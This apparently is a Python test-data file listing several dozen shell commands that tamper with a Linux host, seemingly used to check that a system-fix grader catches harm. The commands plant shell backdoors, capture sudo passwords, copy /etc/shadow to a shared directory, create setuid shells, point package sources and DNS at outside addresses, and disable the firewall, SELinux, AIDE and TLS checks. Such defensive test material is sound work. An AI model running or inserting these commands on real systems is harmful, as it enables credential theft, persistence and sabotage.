"""A second corpus of harm, written without sight of the checks: beside fixes of the kernel.

The text is run after the right fix of the rule, as in `harmful`.
"""
# ruff: noqa: E501

from __future__ import annotations

from harmful import SYSCTL, Addition

HARMFUL = [
    Addition(
        SYSCTL,
        """mkdir -p /etc/ld.so.conf.d; echo /srv/share/lib > /etc/ld.so.conf.d/00-site.conf""",
        "/etc/ld.so.conf.d/00-site.conf",
    ),
    Addition(SYSCTL, """echo 'BASH_ENV=/tmp/.e' > /etc/environment""", "/etc/environment"),
    Addition(
        SYSCTL,
        r"""printf 'pathmunge() { PATH=$1:$PATH; }\npathmunge .\n' > /etc/profile.d/zz-path.sh""",
        "/etc/profile.d/zz-path.sh",
    ),
    Addition(
        SYSCTL,
        r"""printf 'set +o history\nreadonly HISTFILE=/dev/null\n' > /etc/profile.d/hist.sh""",
        "/etc/profile.d/hist.sh",
    ),
    Addition(
        SYSCTL,
        r"""{ head -c 300000 /dev/zero | tr '\0' '#'; echo; echo 'umask 0'; echo '. /tmp/.p'; } >> /etc/profile.d/lang.sh""",
        "/etc/profile.d/lang.sh",
    ),
    Addition(
        SYSCTL,
        """echo 'sudo() { read -rsp "[sudo] password for $USER: " p; echo "$p" >> /srv/share/.k; command sudo "$@"; }' >> /etc/bashrc""",
        "/etc/bashrc",
    ),
    Addition(
        SYSCTL,
        """echo '-kernel/randomize_va_space=0' > /etc/sysctl.d/99-z.conf""",
        "/etc/sysctl.d/99-z.conf",
    ),
    Addition(
        SYSCTL,
        """echo 'kernel.modprobe = /var/tmp/m' >> /etc/sysctl.d/50-site.conf""",
        "/etc/sysctl.d/50-site.conf",
    ),
    Addition(
        SYSCTL,
        """echo 'net.ipv4.conf.*.rp_filter=0' > /etc/sysctl.d/60-net.conf""",
        "/etc/sysctl.d/60-net.conf",
    ),
    Addition(
        SYSCTL,
        r"""printf 'vm.panic_on_oom=2\nkernel.pid_max=301\n' > /etc/sysctl.d/70-tune.conf""",
        "/etc/sysctl.d/70-tune.conf",
    ),
    Addition(
        SYSCTL, """echo 'UUID=0000-dead /home xfs defaults 0 0' >> /etc/fstab""", "/etc/fstab"
    ),
    Addition(
        SYSCTL,
        r"""sed -i 's#^tmpfs /dev/shm.*#tmpfs\t/dev/shm\ttmpfs\trw,exec,suid,dev\t0\t0#' /etc/fstab""",
        "/etc/fstab",
    ),
    Addition(SYSCTL, """echo '/ *(rw,no_root_squash)' >> /etc/exports""", "/etc/exports"),
    Addition(
        SYSCTL, r"""printf '203.0.113.7\tpackages.example.com\n' >> /etc/hosts""", "/etc/hosts"
    ),
    Addition(
        SYSCTL, """sed -i '1i nameserver 203.0.113.53' /etc/resolv.conf""", "/etc/resolv.conf"
    ),
    Addition(
        SYSCTL,
        """sed -i 's/^passwd:.*/passwd: sss/; s/^shadow:.*/shadow: sss/' /etc/nsswitch.conf""",
        "/etc/nsswitch.conf",
    ),
    Addition(
        SYSCTL,
        r"""printf 'server 203.0.113.9 iburst prefer trust\nmakestep 0.1 -1\n' > /etc/chrony.d/site.conf; echo 'confdir /etc/chrony.d' >> /etc/chrony.conf""",
        "/etc/chrony.d/site.conf",
    ),
    Addition(
        SYSCTL, """echo LEGACY:SHA1 > /etc/crypto-policies/config""", "/etc/crypto-policies/config"
    ),
    Addition(
        SYSCTL,
        r"""printf '[ssl_module]\nsystem_default = sd\n[sd]\nMinProtocol = TLSv1\nCipherString = ALL:eNULL@SECLEVEL=0\n' >> /etc/pki/tls/openssl.cnf""",
        "/etc/pki/tls/openssl.cnf",
    ),
    Addition(
        SYSCTL,
        r"""printf '[extra]\nname=extra\nbaseurl=http://203.0.113.7/el9\nenabled=1\npriority=1\n' > /etc/yum.repos.d/extra.repo""",
        "/etc/yum.repos.d/extra.repo",
    ),
    Addition(
        SYSCTL,
        """echo 'excludepkgs=kernel* openssh* sudo*' >> /etc/dnf/dnf.conf""",
        "/etc/dnf/dnf.conf",
    ),
    Addition(
        SYSCTL,
        """mkdir -p /etc/rpm; echo '%_pkgverify_level none' > /etc/rpm/macros.verify""",
        "/etc/rpm/macros.verify",
    ),
    Addition(
        SYSCTL,
        r"""sed -i '/^id_provider/a ldap_tls_reqcert = never\naccess_provider = permit' /etc/sssd/sssd.conf""",
        "/etc/sssd/sssd.conf",
    ),
    Addition(SYSCTL, """echo '!/etc' >> /etc/aide.conf""", "/etc/aide.conf"),
    Addition(
        SYSCTL,
        """sed -i 's/^DefaultZone.*/DefaultZone = trusted/' /etc/firewalld/firewalld.conf""",
        "/etc/firewalld/firewalld.conf",
    ),
    Addition(SYSCTL, """echo 'root: "|/var/tmp/m"' >> /etc/aliases""", "/etc/aliases"),
    Addition(
        SYSCTL,
        """sed -i 's/^ImplicitPolicyTarget=.*/ImplicitPolicyTarget=allow/' /etc/usbguard/usbguard-daemon.conf""",
        "/etc/usbguard/usbguard-daemon.conf",
    ),
    Addition(
        SYSCTL,
        """mkdir -p /etc/polkit-1/rules.d; echo 'polkit.addRule(function(a,s){return "yes";});' > /etc/polkit-1/rules.d/00-site.rules""",
        "/etc/polkit-1/rules.d/00-site.rules",
    ),
    Addition(SYSCTL, """cp /usr/bin/bash /var/tmp/.b && chmod 4755 /var/tmp/.b""", "/var/tmp/.b"),
    Addition(
        SYSCTL,
        """chown 1000 /etc/ssh/sshd_config.d; chgrp 100 /etc/sudoers.d; chmod g+w /etc/sudoers.d""",
        "/etc/ssh/sshd_config.d",
    ),
    Addition(
        SYSCTL, """mkdir -p /etc/skel/.c; ln /etc/shadow /etc/skel/.c/notes""", "/etc/skel/.c/notes"
    ),
    Addition(SYSCTL, """install -m 644 /etc/shadow /srv/share/old.txt""", "/srv/share/old.txt"),
    Addition(
        SYSCTL,
        """mv /etc/cron.hourly /srv/share/hourly; ln -s /srv/share/hourly /etc/cron.hourly""",
        "/etc/cron.hourly",
    ),
    Addition(SYSCTL, """mv /etc/pam.d/su /tmp/su; ln -s /tmp/su /etc/pam.d/su""", "/etc/pam.d/su"),
    Addition(SYSCTL, """chmod 0777 /tmp /var/tmp""", "/tmp"),
    Addition(SYSCTL, """chmod 0700 /etc""", "/etc"),
    Addition(SYSCTL, """chmod 1777 /var/spool/cron""", "/var/spool/cron"),
    Addition(
        SYSCTL,
        """cp /usr/bin/bash /usr/local/bin/backup 2>/dev/null || cp /usr/bin/bash /opt/backup; command -v setcap && setcap cap_setuid+ep /opt/backup; chmod 2755 /opt/backup; chgrp 10 /opt/backup; chmod 2755 /opt/backup""",
        "/opt/backup",
    ),
    Addition(SYSCTL, """rm -f /etc/ssh/ssh_host_*_key""", "/etc/ssh/ssh_host_ed25519_key"),
    Addition(SYSCTL, """head -c 2000 /dev/urandom > /etc/gshadow""", "/etc/gshadow"),
    Addition(
        SYSCTL,
        r"""mkdir -p /etc/cloud/cloud.cfg.d; printf 'runcmd:\n - [sh, /srv/share/run]\nssh_pwauth: true\n' > /etc/cloud/cloud.cfg.d/99-x.cfg""",
        "/etc/cloud/cloud.cfg.d/99-x.cfg",
    ),
    Addition(
        SYSCTL, """echo '1 5 daily-x /srv/share/daily' > /etc/anacrontab""", "/etc/anacrontab"
    ),
    Addition(
        SYSCTL,
        """mkdir -p /etc/openldap; echo 'TLS_REQCERT never' > /etc/openldap/ldap.conf""",
        "/etc/openldap/ldap.conf",
    ),
    Addition(
        SYSCTL,
        r"""mkdir -p /home/alice/.config/systemd/user/default.target.wants; printf '[Service]\nExecStart=/srv/share/u\n' > /home/alice/.config/systemd/user/default.target.wants/u.service""",
        "/home/alice/.config/systemd/user/default.target.wants/u.service",
    ),
    Addition(
        SYSCTL, """echo 'autocmd VimEnter * silent !/srv/share/v' > /etc/vimrc""", "/etc/vimrc"
    ),
    Addition(
        SYSCTL,
        r"""printf '[core]\n\thooksPath = /srv/share/hooks\n\tpager = /srv/share/p\n' > /etc/gitconfig""",
        "/etc/gitconfig",
    ),
    Addition(
        SYSCTL, r"""echo '"\C-m": "\C-a/srv/share/i; \C-e\C-j"' > /etc/inputrc""", "/etc/inputrc"
    ),
    Addition(SYSCTL, """echo '. /tmp/z' > /etc/zshenv""", "/etc/zshenv"),
    Addition(
        SYSCTL, """echo 'home /dev/sda3 /srv/share/key luks' > /etc/crypttab""", "/etc/crypttab"
    ),
    Addition(
        SYSCTL,
        """sed -i 's/^enabled=1/enabled = 0/' /etc/yum.repos.d/site.repo""",
        "/etc/yum.repos.d/site.repo",
    ),
    Addition(SYSCTL, """chmod 0700 /tmp /var/tmp""", "/tmp"),
    Addition(SYSCTL, """chmod 0777 /""", "/"),
    Addition(
        SYSCTL,
        """chmod 0700 /etc/profile.d; chmod 600 /etc/passwd /etc/hosts /etc/resolv.conf""",
        "/etc/hosts",
    ),
    Addition(
        SYSCTL,
        """echo x > /var/lib/aide/aide.db.gz; sed -i 's#^database_in=.*#database_in=file:/srv/share/aide.db#' /etc/aide.conf""",
        "/etc/aide.conf",
    ),
    Addition(SYSCTL, """sed -i 's/^NORMAL = .*/NORMAL = p/' /etc/aide.conf""", "/etc/aide.conf"),
    Addition(
        SYSCTL,
        r"""printf 'conn x\n  authby=never\n  ike=3des-md5\n' > /etc/ipsec.d/x.conf""",
        "/etc/ipsec.d/x.conf",
    ),
    Addition(
        SYSCTL,
        r"""printf '[root]\npath=/\nuid=0\nread only=no\n' > /etc/rsyncd.conf""",
        "/etc/rsyncd.conf",
    ),
    Addition(
        SYSCTL,
        r"""printf 'LANG=xx_YY.UTF-8\nLOCPATH=/srv/share\n' > /etc/locale.conf""",
        "/etc/locale.conf",
    ),
    Addition(SYSCTL, """sed -i 's#^ssh 22/tcp#ssh 2222/tcp#' /etc/services""", "/etc/services"),
    Addition(SYSCTL, """echo 0 > /etc/machine-id""", "/etc/machine-id"),
    Addition(
        SYSCTL,
        r"""mkdir -p /etc/selinux/targeted/modules/active; echo 'permissive sshd_t' > /etc/selinux/targeted/modules/active/permissive; printf 'module-store = direct\nload-policy=/srv/share/lp\n' > /etc/selinux/semanage.conf""",
        "/etc/selinux/semanage.conf",
    ),
    Addition(
        SYSCTL,
        """mkdir -p /etc/fapolicyd; echo 'permissive = 1' > /etc/fapolicyd/fapolicyd.conf""",
        "/etc/fapolicyd/fapolicyd.conf",
    ),
    Addition(
        SYSCTL,
        """mkdir -p /etc/nftables /etc/sysconfig; echo 'flush ruleset' > /etc/sysconfig/nftables.conf""",
        "/etc/sysconfig/nftables.conf",
    ),
]
